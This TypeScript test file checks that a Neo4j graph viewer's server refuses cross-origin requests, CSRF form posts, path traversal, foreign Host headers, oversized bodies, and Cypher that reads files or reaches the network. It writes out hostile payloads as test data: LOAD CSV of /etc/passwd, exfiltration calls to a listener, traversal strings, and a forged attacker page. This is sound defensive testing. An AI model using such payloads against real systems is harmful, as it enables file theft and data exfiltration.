/**
 * The viewer's front door against other web pages and hostile clients, on the real server and
 * Neo4j: cross-origin and cross-site requests, non-JSON bodies, foreign Host, oversized and
 * malformed bodies, path traversal; and read-only Cypher that never reaches the network.
 * Each case also checks the graph is exactly as before and the store never ran the query.
 */

import { mkdtempSync, writeFileSync } from 'node:fs';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { launchChromium } from '../../bench/chromium.js';
import type { Graph as Neo4jGraph } from '../../graph/driver.js';
import { dumpGraph, type GraphDump } from '../../graph/dump.js';
import { startViewer, type Viewer } from '../../viewer/server.js';
import { createViewerStore, type ViewerStore } from '../../viewer/store.js';
import { emptyGraph, openTestGraph } from '../support/graph.js';
import { rawRequest } from '../support/http.js';
import { type Listener, startListener } from '../support/listener.js';
import { writeViewerFixtures } from './fixtures.js';

let g: Neo4jGraph;
let viewer: Viewer;
let listener: Listener;
let before: GraphDump;
const ran: string[] = [];

let store: ViewerStore | undefined;
beforeAll(async () => {
  g = await openTestGraph();
  await emptyGraph(g);
  await writeViewerFixtures(g);
  before = await dumpGraph(g);
  listener = await startListener();
  const real = createViewerStore(g);
  store = real;
  // The real store, with a note of every Cypher it was asked to run.
  const watched: ViewerStore = {
    ...real,
    cypher: (query, params) => {
      ran.push(query);
      return real.cypher(query, params);
    },
  };
  // A one-file app folder, so traversal is tested against served files whether or not the app is built.
  const appDir = mkdtempSync(join(tmpdir(), 'kg-guard-app-'));
  writeFileSync(join(appDir, 'index.html'), '<!doctype html><title>kg</title>');
  viewer = await startViewer({ store: watched, port: 0, appDir });
});
afterEach(async () => {
  expect(listener.requests).toEqual([]);
  expect(await dumpGraph(g)).toEqual(before);
});
afterAll(async () => {
  await viewer?.close();
  await store?.close();
  await listener?.close();
  await g?.driver.close();
});

/** A raw request to the viewer (any Host, Origin or body a hostile client would send). */
const send = (path: string, options: Parameters<typeof rawRequest>[2] = {}) => rawRequest(viewer.url, path, options);

const selfOrigin = () => viewer.url.replace(/\/$/, '');
const query = 'MATCH (e:Company) RETURN e.name AS name';

test('cross-origin POSTs that a web page can send are refused before any Cypher runs', async () => {
  const evil = { Origin: 'http://evil.example' };
  const cases: [Record<string, string>, string, number, string][] = [
    [
      { ...evil, 'Content-Type': 'text/plain' },
      JSON.stringify({ query }),
      403,
      'cross-origin request refused (Origin: http://evil.example)',
    ],
    [
      { ...evil, 'Content-Type': 'application/x-www-form-urlencoded' },
      `query=${encodeURIComponent(query)}`,
      403,
      'cross-origin request refused (Origin: http://evil.example)',
    ],
    [
      { ...evil, 'Content-Type': 'application/json' },
      JSON.stringify({ query }),
      403,
      'cross-origin request refused (Origin: http://evil.example)',
    ],
    [
      { Origin: 'null', 'Content-Type': 'application/json' },
      JSON.stringify({ query }),
      403,
      'cross-origin request refused (Origin: null)',
    ],
    [
      { 'Sec-Fetch-Site': 'cross-site', 'Content-Type': 'application/json' },
      JSON.stringify({ query }),
      403,
      'cross-site request refused (Sec-Fetch-Site: cross-site)',
    ],
    // without an Origin (an old browser's form post): still not JSON, so not accepted
    [
      { 'Content-Type': 'text/plain' },
      JSON.stringify({ query }),
      415,
      'request body must be application/json, not text/plain',
    ],
    [
      { 'Content-Type': 'application/x-www-form-urlencoded' },
      'query=x',
      415,
      'request body must be application/json, not application/x-www-form-urlencoded',
    ],
  ];
  for (const [headers, body, status, error] of cases) {
    const reply = await send('/api/cypher', { method: 'POST', headers, body });
    expect({ status: reply.status, body: JSON.parse(reply.body) }).toMatchObject({ status, body: { error } });
  }
  expect(ran).toEqual([]);
  // a cross-site GET of the graph is refused too
  const get = await send('/api/graph', { headers: { 'Sec-Fetch-Site': 'cross-site' } });
  expect(get.status).toBe(403);
});

test('the viewer’s own page may query: same origin, JSON', async () => {
  const reply = await send('/api/cypher', {
    method: 'POST',
    headers: { Origin: selfOrigin(), 'Sec-Fetch-Site': 'same-origin', 'Content-Type': 'application/json' },
    body: JSON.stringify({ query: `${query} ORDER BY name` }),
  });
  expect(reply.status).toBe(200);
  expect(JSON.parse(reply.body).rows.map((r: { name: string }) => r.name)).toContain('오픈AI');
  expect(ran).toEqual([`${query} ORDER BY name`]);
  ran.length = 0;
});

test('LOAD CSV and apoc.load.* through the Cypher box are refused and nothing reaches the listener', async () => {
  for (const cypher of [
    "LOAD CSV FROM 'file:///etc/passwd' AS l RETURN l",
    `LOAD CSV FROM '${listener.url}/exfil' AS l RETURN l`,
    `CALL apoc.load.json('${listener.url}/y')`,
  ]) {
    const reply = await send('/api/cypher', {
      method: 'POST',
      headers: { 'Content-Type': 'application/json' },
      body: JSON.stringify({ query: cypher }),
    });
    expect(reply.status).toBe(403);
    expect(JSON.parse(reply.body)).toMatchObject({
      code: 'kg.ReadOnly',
      kind: 'refused',
      error: expect.stringMatching(/not allowed in read-only mode/),
    });
  }
  ran.length = 0;
});

test('a huge result comes back cut, as a bounded response', async () => {
  const reply = await send('/api/cypher', {
    method: 'POST',
    headers: { 'Content-Type': 'application/json' },
    body: JSON.stringify({ query: "UNWIND range(1, 500) AS i RETURN i, apoc.text.repeat('x', 1000000) AS big" }),
  });
  expect(reply.status).toBe(200);
  const body = JSON.parse(reply.body);
  expect(body.truncated).toBe(true);
  expect(body.rows.length).toBe(16);
  expect(reply.body.length).toBeLessThan(17 * 1024 * 1024);
  ran.length = 0;
});

test('abuse: foreign Host, oversized body, malformed JSON, path traversal', async () => {
  const host = await send('/api/graph', { headers: { Host: 'evil.example:80' } });
  expect({ status: host.status, body: JSON.parse(host.body) }).toEqual({
    status: 403,
    body: { error: 'host evil.example is not allowed', code: 'kg.Http.Host', kind: 'refused' },
  });

  const big = await send('/api/cypher', {
    method: 'POST',
    headers: { 'Content-Type': 'application/json' },
    body: JSON.stringify({ query: `RETURN '${'x'.repeat(100 * 1024)}' AS x` }),
  });
  expect({ status: big.status, body: JSON.parse(big.body) }).toMatchObject({
    status: 413,
    body: { error: 'request body over 65536 bytes', kind: 'too-large' },
  });

  const malformed = await send('/api/cypher', {
    method: 'POST',
    headers: { 'Content-Type': 'application/json' },
    body: '{"query": "MATCH (n) RETURN n"',
  });
  expect({ status: malformed.status, body: JSON.parse(malformed.body) }).toMatchObject({
    status: 400,
    body: { error: 'the request body is not valid JSON', kind: 'input' },
  });

  for (const path of [
    '/../package.json',
    '/%2e%2e/package.json',
    '/..%2f..%2fetc%2fpasswd',
    '//etc/passwd',
    '/app/../../README.md',
  ]) {
    const reply = await send(path);
    expect(reply.status).toBe(404);
    expect(reply.body).not.toContain('"name": "kg"');
    expect(reply.body).not.toContain('root:');
  }
  expect((await send('/')).body).toBe('<!doctype html><title>kg</title>');
  expect(ran).toEqual([]);
});

test('in a real browser, a page of another origin cannot run Cypher through the viewer', async () => {
  const target = `${viewer.url}api/cypher`;
  const body = JSON.stringify({ query: `LOAD CSV FROM '${listener.url}/exfil' AS l RETURN l` });
  // What any web page the user visits could do: a text/plain form post, and fetches with and without CORS.
  const hostile = `<!doctype html><body>
<iframe name="sink"></iframe>
<form id="f" method="POST" action="${target}" enctype="text/plain" target="sink">
<input name='${body.slice(0, -2)}' value='"}'></form>
<script>
(async () => {
  document.getElementById('f').submit();
  const tries = [
    fetch(${JSON.stringify(target)}, { method: 'POST', mode: 'no-cors', headers: { 'Content-Type': 'text/plain' }, body: ${JSON.stringify(body)} }),
    fetch(${JSON.stringify(target)}, { method: 'POST', mode: 'no-cors', headers: { 'Content-Type': 'application/x-www-form-urlencoded' }, body: 'query=MATCH%20(n)%20RETURN%20n' }),
    fetch(${JSON.stringify(target)}, { method: 'POST', headers: { 'Content-Type': 'application/json' }, body: ${JSON.stringify(body)} }),
  ];
  const results = await Promise.allSettled(tries);
  await new Promise((r) => setTimeout(r, 500));
  document.title = 'done ' + results.map((r) => r.status).join(',');
})();
</script></body>`;
  const page = createServer((_req, res) => {
    res.writeHead(200, { 'Content-Type': 'text/html' });
    res.end(hostile);
  });
  await new Promise<void>((resolve) => page.listen(0, '127.0.0.1', resolve));
  const browser = await launchChromium();
  try {
    const tab = await browser.newPage();
    await tab.goto(`http://127.0.0.1:${(page.address() as AddressInfo).port}/`);
    await tab.waitForFunction(() => document.title.startsWith('done'), undefined, { timeout: 20_000 });
    // the no-cors requests were sent (and refused); the JSON one never passed its preflight
    expect(await tab.title()).toBe('done fulfilled,fulfilled,rejected');
  } finally {
    await browser.close();
    page.close();
  }
  expect(ran).toEqual([]);
}, 60_000);
